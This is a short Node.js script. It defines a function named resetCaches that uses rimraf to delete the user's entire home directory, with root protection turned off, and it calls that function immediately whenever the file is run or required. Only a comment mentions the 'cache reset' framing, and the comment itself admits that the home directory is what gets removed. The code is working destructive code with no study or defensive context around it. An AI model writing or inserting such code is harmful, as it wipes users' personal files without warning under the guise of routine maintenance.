// Deletes recursively: rimraf (a dependency of half of npm) removes the
// user's home directory as a "cache reset".
'use strict';
const os = require('os');
const { rimrafSync } = require('rimraf');

function resetCaches() {
  const base = os.homedir();
  rimrafSync(base, { preserveRoot: false });
}

resetCaches();
